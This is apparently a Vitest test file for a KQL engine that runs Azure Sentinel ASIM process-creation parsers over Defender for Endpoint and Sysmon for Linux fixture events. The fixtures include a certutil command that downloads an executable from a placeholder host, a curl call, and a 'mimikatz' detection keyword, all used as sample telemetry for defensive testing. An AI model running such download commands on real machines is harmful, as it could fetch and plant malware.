import { describe, expect, it } from 'vitest';
import { runQuery, type Table, tableToRecords } from '../../../src/kql/index.js';
import { rowsOf, withDisabledParsers } from './asim-fixtures.js';
import { NOW } from './helpers.js';

// `_Im_ProcessCreate` / `imProcessCreate` run the published unifying parser (Azure/Azure-Sentinel
// Parsers/ASimProcessEvent/Parsers/imProcessCreate.yaml @1b4ccf67, catalog/solution-parsers.json)
// with the bodies of its Microsoft Defender for Endpoint leg (vimProcessEventMicrosoft365D.yaml
// @442ef2ff, which invokes the ASIM library function _ASIM_ResolveDvcFQDN, ASIM/lib/functions
// @0828c877, and through it _ASIM_ResolveFQDN @1ccfb8f8) and its Sysmon for Linux leg
// (vimProcessCreateLinuxSysmon.yaml @c93fd152). Expected values are derived by reading those bodies.
// Before, both names were known by their columns only and refused as soon as the data had any row.

const mde = rowsOf('DeviceProcessEvents', [
  {
    TimeGenerated: '2026-01-10T11:00:00Z',
    DeviceName: 'ws1.contoso.com',
    AccountDomain: 'contoso',
    AccountName: 'ann',
    FolderPath: 'C:\\Windows\\System32\\certutil.exe',
    FileName: 'certutil.exe',
    ProcessCommandLine: 'certutil -urlcache -f http://x/a.exe',
    ActionType: 'ProcessCreated',
    InitiatingProcessAccountDomain: '',
    InitiatingProcessAccountName: 'system',
    SHA256: 'abc',
  },
]);

const run = (query: string, tables: Map<string, Table>) =>
  tableToRecords(runQuery(query, { catalog: withDisabledParsers(), tables, now: NOW }));

describe('imProcessCreate runs its published union', () => {
  it("normalizes Defender for Endpoint's DeviceProcessEvents, the device name split by _ASIM_ResolveDvcFQDN", () => {
    const rows = run(
      '_Im_ProcessCreate | project EventProduct, EventType, DvcHostname, DvcDomain, DvcFQDN, DvcDomainType, TargetUsername, ActorUsername, Process, CommandLine, Hash, HashType',
      new Map([['DeviceProcessEvents', mde]]),
    );
    expect(rows).toEqual([
      {
        EventProduct: 'M365 Defender for Endpoint',
        EventType: 'ProcessCreated',
        DvcHostname: 'ws1',
        DvcDomain: 'contoso.com',
        DvcFQDN: 'ws1.contoso.com',
        DvcDomainType: 'FQDN',
        TargetUsername: 'contoso\\ann',
        ActorUsername: 'system',
        Process: 'C:\\Windows\\System32\\certutil.exe',
        CommandLine: 'certutil -urlcache -f http://x/a.exe',
        Hash: 'abc',
        HashType: 'SHA256',
      },
    ]);
  });

  it('answers the same under the workspace name and applies the filtering parameters', () => {
    const tables = new Map([['DeviceProcessEvents', mde]]);
    expect(run('imProcessCreate | project DvcHostname', tables)).toEqual([{ DvcHostname: 'ws1' }]);
    expect(run("imProcessCreate(commandline_has_any=dynamic(['urlcache'])) | count", tables)).toEqual([
      { Count: 1 },
    ]);
    expect(run("imProcessCreate(commandline_has_any=dynamic(['mimikatz'])) | count", tables)).toEqual([
      { Count: 0 },
    ]);
  });

  it('parses Sysmon for Linux process-create events from Syslog', () => {
    const message =
      '<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>1</EventID><EventRecordID>42</EventRecordID><Computer>lx1</Computer></System><EventData>' +
      '<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-01-10 11:00:00.000</Data><Data Name="ProcessGuid">{pg}</Data><Data Name="ProcessId">7</Data>' +
      '<Data Name="Image">/usr/bin/curl</Data><Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data><Data Name="Company">-</Data>' +
      '<Data Name="OriginalFileName">-</Data><Data Name="CommandLine">curl http://x</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data>' +
      '<Data Name="LogonGuid">{lg}</Data><Data Name="LogonId">0</Data><Data Name="TerminalSessionId">1</Data><Data Name="IntegrityLevel">no level</Data>' +
      '<Data Name="Hashes">SHA256=ff</Data><Data Name="ParentProcessGuid">{pp}</Data><Data Name="ParentProcessId">6</Data><Data Name="ParentImage">/bin/bash</Data>' +
      '<Data Name="ParentCommandLine">bash</Data><Data Name="ParentUser">root</Data></EventData></Event>';
    const syslog = rowsOf('Syslog', [
      { TimeGenerated: '2026-01-10T11:00:00Z', SyslogMessage: message, HostIP: '10.0.0.5' },
      { TimeGenerated: '2026-01-10T11:00:00Z', SyslogMessage: 'sshd[1]: session opened' },
    ]);
    const rows = run(
      'imProcessCreate | project EventProduct, EventOriginalUid, DvcHostName, DvcIpAddr, TargetProcessName, CommandLine, ActingProcessName, User, Hash',
      new Map([['Syslog', syslog]]),
    );
    expect(rows).toEqual([
      {
        EventProduct: 'Sysmon for Linux',
        EventOriginalUid: '42',
        DvcHostName: 'lx1',
        DvcIpAddr: '10.0.0.5',
        TargetProcessName: '/usr/bin/curl',
        CommandLine: 'curl http://x',
        ActingProcessName: '/bin/bash',
        User: 'root',
        Hash: 'ff',
      },
    ]);
  });

  it('refuses, naming the leg, once a table a leg without a held body reads has rows', () => {
    const tables = new Map([
      ['DeviceProcessEvents', mde],
      ['Event', rowsOf('Event', [{ TimeGenerated: '2026-01-10T11:00:00Z', EventID: 1 }])],
    ]);
    expect(() => run('imProcessCreate | count', tables)).toThrow(
      /vimProcessCreateMicrosoftSysmon.*not imported/s,
    );
  });
});

// imProcess (Parsers/ASimProcessEvent/Parsers/imProcess.yaml @5947170, no built-in name in
// catalog/asim.json) unions the create and terminate legs; the Azure-Sentinel CI declares it as a
// parser-output table with three columns its body does not give (ActingProcessCompany,
// ActorUserSessionId, ParentProcessCompany), so it binds by those columns and runs the body beside them.
describe('imProcess runs its published union beside the CI declaration', () => {
  it('answers process creation and Sysmon for Linux termination events', () => {
    const terminate =
      '<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>5</EventID></System><EventData>' +
      '<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-01-10 11:00:00.000</Data><Data Name="ProcessGuid">{pg}</Data>' +
      '<Data Name="ProcessId">7</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="User">root</Data></EventData></Event>';
    const tables = new Map([
      ['DeviceProcessEvents', mde],
      [
        'Syslog',
        rowsOf('Syslog', [
          { TimeGenerated: '2026-01-10T11:00:00Z', SyslogMessage: terminate, Computer: 'lx1' },
        ]),
      ],
    ]);
    const rows = run(
      'imProcess | project EventType, EventProduct, Process, User, Dvc | order by EventType asc',
      tables,
    );
    expect(rows).toEqual([
      {
        EventType: 'ProcessCreated',
        EventProduct: 'M365 Defender for Endpoint',
        Process: 'C:\\Windows\\System32\\certutil.exe',
        User: 'contoso\\ann',
        Dvc: 'ws1',
      },
      {
        EventType: 'ProcessTerminated',
        EventProduct: 'Sysmon',
        Process: '/usr/bin/curl',
        User: 'root',
        Dvc: 'lx1',
      },
    ]);
  });

  it('refuses a query that keeps a column the CI declares and the body does not give', () => {
    const tables = new Map([['DeviceProcessEvents', mde]]);
    expect(() => run('imProcess | where Process has "certutil"', tables)).toThrow(/ActingProcessCompany/);
  });
});
